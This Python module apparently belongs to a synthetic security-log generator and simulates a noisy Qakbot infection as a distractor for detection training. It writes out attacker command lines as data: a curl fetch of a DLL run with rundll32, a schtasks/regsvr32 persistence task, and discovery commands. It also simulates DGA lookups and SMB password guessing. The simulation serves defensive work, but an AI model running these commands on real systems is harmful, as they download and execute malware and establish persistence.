"""The distractor: a noisy Qakbot infection on a finance workstation, unrelated to APT41.

A zipped JavaScript invoice, curl fetching a DLL over plain HTTP, rundll32, a
hollowed wermgr.exe, an hourly scheduled task, quick discovery, C2 attempts to
many addresses on odd ports, DGA-like lookups and SMB password guessing against
neighbouring workstations. It never touches a crown jewel; it stops on Thursday
afternoon when the machine is isolated.
"""

from __future__ import annotations

import random
from typing import Any

from crownwatch.scenario import activity, actors, habits, network, windows
from crownwatch.scenario.activity import MS, Ctx, Proc
from crownwatch.scenario.formats import DAY_US, SECOND
from crownwatch.scenario.network import Tls

HOUR = 3600 * SECOND
MIN = 60 * SECOND
_PORTS = (443, 443, 995, 2222, 2078, 32101, 50000, 65400, 993, 6881)
_TLDS = ("com", "net", "org", "info", "biz")
#: The TLS profile of the C2 servers.
SELF_SIGNED: Tls = (
    "TLSv12",
    "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
    "secp384r1",
    "CsxknGIi",
    True,
    "self signed certificate",
)


def prepare(ctx: Ctx, start: int, days: int) -> dict[str, Any]:
    """Choose the victim (a finance user) and schedule the infection."""
    rng = ctx.rng
    data = actors.load()["commodity"]
    users = ctx.company["users"]
    victim = rng.choice([u for u in users if u["department"] == "Finance" and not u["pinned"]])
    victim["pinned"] = True
    base = start + (7 if days >= 14 else 0) * DAY_US
    begin = base + 2 * DAY_US + 9 * HOUR + 52 * MIN + 7 * SECOND
    bots = [
        f"{rng.choice((24, 47, 68, 71, 76, 86, 92, 98, 109, 151, 174, 190, 201))}."
        f"{rng.randint(1, 254)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        for _ in range(36)
    ]
    story: dict[str, Any] = {
        "ctx": ctx,
        "data": data,
        "tags": actors.tags("commodity", "commodity"),
        "victim": victim,
        "ws": ctx.company["host"][victim["workstation"]],
        "bots": bots,
        "live": bots[:3],
        "stop": base + 3 * DAY_US + 14 * HOUR + 20 * MIN,
        "bot": None,
    }
    activity.at(ctx, begin, lambda ts: infect(story, ts))
    return {
        "victim": victim["username"],
        "workstation": victim["workstation"],
        "first_event": begin,
    }


def dga(rng: random.Random) -> str:
    letters = "abcdefghijklmnopqrstuvwxyz"
    return "".join(rng.choice(letters) for _ in range(rng.randint(9, 16))) + "." + rng.choice(_TLDS)


def infect(story: dict[str, Any], ts: int) -> None:
    ctx, ws, tags, data = story["ctx"], story["ws"], story["tags"], story["data"]
    user = story["victim"]["username"]
    sess = ctx.sessions.get(user)
    if sess is None:  # not at work yet: the mail waits in the inbox
        activity.at(ctx, ts + 20 * MIN, lambda when: infect(story, when))
        return
    temp = f"C:\\Users\\{user}\\AppData\\Local\\Temp"
    outlook = habits.app(ctx, sess, ts, "outlook")
    windows.file_created(
        ctx,
        ts,
        ws,
        outlook,
        f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows"
        "\\INetCache\\Content.Outlook\\K3JD9W2Q\\Invoice_44817.zip",
        tags["qakbot-attachment"],
    )
    ts += 48 * SECOND
    js = f"{temp}\\Temp1_Invoice_44817.zip\\{data['files']['js']['name']}"
    wscript = windows.start(
        ctx,
        ts,
        ws,
        "C:\\Windows\\System32\\wscript.exe",
        f'"C:\\Windows\\System32\\WScript.exe" "{js}"',
        sess["explorer"],
        sess["acct"],
        truth=tags["qakbot-user-opens-js"],
    )
    dll = f"{temp}\\kbq.dll"
    curl_line = f"curl.exe -s -o {dll} {data['delivery_url']}"
    shell = windows.start(
        ctx,
        ts + 2 * SECOND,
        ws,
        "C:\\Windows\\System32\\cmd.exe",
        f'"C:\\Windows\\System32\\cmd.exe" /c {curl_line} && rundll32.exe {dll},DrawThemeIcon',
        wscript,
        sess["acct"],
        truth=tags["qakbot-js-download"],
    )
    t = ts + 2500 * MS
    dl = tags["qakbot-dll-download"]
    curl = windows.start(
        ctx, t, ws, "C:\\Windows\\System32\\curl.exe", curl_line, shell, sess["acct"], truth=dl
    )
    f = data["files"]["dll"]
    size = 1_286_144
    cid, port, t = network.flow(
        ctx,
        t + 100 * MS,
        ws,
        curl,
        data["delivery_ip"],
        80,
        service="http",
        ob=310,
        rb=size + 420,
        duration=1.9,
        truth=dl,
    )
    network.http(
        ctx,
        t + 60 * MS,
        cid,
        activity.host_ip(ctx, ws),
        port,
        data["delivery_ip"],
        80,
        method="GET",
        host=data["delivery_ip"],
        uri="/" + data["delivery_url"].split("/", 3)[3],
        agent="curl/8.9.1",
        resp=size,
        mime="application/x-dosexec",
        filename="xl.dat",
        file_hashes=actors.hashes(f),
        truth=dl,
    )
    windows.file_created(ctx, t + 2 * SECOND, ws, curl, dll, dl)
    t += 4 * SECOND
    rundll = windows.start(
        ctx,
        t,
        ws,
        "C:\\Windows\\System32\\rundll32.exe",
        f"rundll32.exe {dll},DrawThemeIcon",
        shell,
        sess["acct"],
        truth=tags["qakbot-rundll32"],
    )
    t += 3 * SECOND
    bot = windows.start(
        ctx,
        t,
        ws,
        "C:\\Windows\\SysWOW64\\wermgr.exe",
        "C:\\Windows\\SysWOW64\\wermgr.exe",
        rundll,
        sess["acct"],
        truth=tags["qakbot-hollowing"],
    )
    windows.process_access(
        ctx,
        t + 200 * MS,
        ws,
        rundll,
        bot,
        "0x1FFFFF",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\"
        "KERNELBASE.dll+2c13e|UNKNOWN(0000000002A41F3C)",
        tags["qakbot-hollowing"],
    )
    story["bot"] = bot
    roaming = f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Ywqpeuyg\\kbq.dll"
    windows.file_created(ctx, t + 5 * SECOND, ws, bot, roaming, tags["qakbot-scheduled-task"])
    task = "{5B5A8E2C-31A7-4C1E-9D0B-7F3E2A6C8D41}"
    line = (
        f'schtasks.exe /Create /F /TN "{task}" /TR "regsvr32.exe -s \\"{roaming}\\"" '
        "/SC HOURLY /MO 6"
    )
    windows.start(
        ctx,
        t + 6 * SECOND,
        ws,
        "C:\\Windows\\System32\\schtasks.exe",
        line,
        bot,
        sess["acct"],
        truth=tags["qakbot-scheduled-task"],
    )
    xml = (
        "<Task><Actions><Exec><Command>regsvr32.exe</Command><Arguments>-s "
        f'"{roaming}"</Arguments></Exec></Actions></Task>'
    )
    windows.task_created(
        ctx, t + 6500 * MS, ws, sess["acct"], f"\\{task}", xml, tags["qakbot-scheduled-task"]
    )
    discover(story, t + 40 * SECOND, bot, sess)
    activity.at(ctx, t + 90 * SECOND, lambda when: c2_sweep(story, when))


def discover(story: dict[str, Any], ts: int, bot: Proc, sess: dict[str, Any]) -> None:
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    for line, image, tag in (
        ("whoami /all", "C:\\Windows\\System32\\whoami.exe", "qakbot-discover-owner"),
        ("ipconfig /all", "C:\\Windows\\System32\\ipconfig.exe", "qakbot-discover-network"),
        ("arp -a", "C:\\Windows\\System32\\ARP.EXE", "qakbot-discover-network"),
        (
            "nltest /domain_trusts /all_trusts",
            "C:\\Windows\\System32\\nltest.exe",
            "qakbot-discover-trusts",
        ),
        ("route print", "C:\\Windows\\System32\\ROUTE.EXE", "qakbot-discover-network"),
    ):
        shell = windows.start(
            ctx,
            ts,
            ws,
            "C:\\Windows\\System32\\cmd.exe",
            f"cmd.exe /c {line}",
            bot,
            sess["acct"],
            truth=tags[tag],
        )
        windows.start(ctx, ts + 50 * MS, ws, image, line, shell, sess["acct"], truth=tags[tag])
        ts += ctx.rng.randint(3, 12) * SECOND


def c2_sweep(story: dict[str, Any], ts: int) -> None:
    """The first contact: many addresses on odd ports, most dead; DGA-like lookups."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    bot = story["bot"]
    src = activity.host_ip(ctx, ws)
    for ip in story["bots"]:
        port = rng.choice(_PORTS)
        sport = activity.eph_port(ctx)
        network.sysmon_net(ctx, ts, ws, bot, sport, ip, port, truth=tags["qakbot-c2"])
        live = ip in story["live"]
        state = "SF" if live else rng.choice(("S0", "S0", "REJ"))
        cid = network.conn(
            ctx,
            ts,
            src,
            sport,
            ip,
            port,
            service="ssl" if live else "-",
            duration=rng.uniform(0.3, 2.0),
            ob=rng.randint(900, 3_000),
            rb=rng.randint(2_000, 9_000),
            state=state,
            truth=tags["qakbot-c2"],
        )
        if live:
            network.ssl(
                ctx,
                ts + 80 * MS,
                cid,
                src,
                sport,
                ip,
                port,
                "",
                SELF_SIGNED,
                truth=tags["qakbot-c2"],
            )
        ts += rng.randint(400, 6_000) * MS
    for _ in range(45):
        network.resolve(ctx, ts, ws, bot, dga(rng), cached=False, truth=tags["qakbot-dga"])
        ts += rng.randint(300, 9_000) * MS
    activity.at(ctx, ts + 2 * MIN, lambda when: bruteforce(story, when))
    activity.at(ctx, ts + 4 * MIN, lambda when: beacon(story, when))


def bruteforce(story: dict[str, Any], ts: int) -> None:
    """SMB password guessing against neighbouring workstations and the department share."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    hosts = ctx.company["hosts"]
    neighbours = [h for h in hosts if h["role"] == "workstation" and h is not ws][:40]
    targets = [*rng.sample(neighbours, min(8, len(neighbours))), ctx.company["host"]["FS01"]]
    src = activity.host_ip(ctx, ws)
    names = ("Administrator", "admin", story["victim"]["username"], "backup", "scanner")
    t = tags["qakbot-smb-bruteforce"]
    for target in targets:
        sport = activity.eph_port(ctx)
        network.sysmon_net(
            ctx, ts, ws, story["bot"], sport, target["ip"], 445, target["fqdn"], truth=t
        )
        network.conn(
            ctx,
            ts,
            src,
            sport,
            target["ip"],
            445,
            service="ntlm,smb",
            duration=rng.uniform(1, 6),
            ob=rng.randint(3_000, 9_000),
            rb=rng.randint(2_000, 6_000),
            truth=t,
        )
        for name in rng.sample(names, 3):
            ts += rng.randint(200, 1500) * MS
            windows.logon_failed(
                ctx,
                ts,
                target,
                name,
                3,
                ip=src,
                port=sport,
                source=ws["hostname"],
                unknown_user=name in ("admin", "backup", "scanner"),
                truth=t,
            )
        ts += rng.randint(5, 40) * SECOND


def beacon(story: dict[str, Any], ts: int) -> None:
    """Check-ins with the live C2 addresses every few minutes until the host is isolated."""
    if ts >= story["stop"]:
        return
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    ip = rng.choice(story["live"])
    port = 443 if ip == story["live"][0] else 2222
    network.flow(
        ctx,
        ts,
        ws,
        story["bot"],
        ip,
        port,
        ob=rng.randint(800, 4_000),
        rb=rng.randint(400, 20_000),
        duration=rng.uniform(0.4, 3),
        tls=SELF_SIGNED,
        truth=tags["qakbot-c2"],
    )
    if rng.random() < 0.08:
        network.resolve(
            ctx, ts + SECOND, ws, story["bot"], dga(rng), cached=False, truth=tags["qakbot-dga"]
        )
    activity.at(ctx, ts + int(rng.uniform(240, 420) * SECOND), lambda when: beacon(story, when))
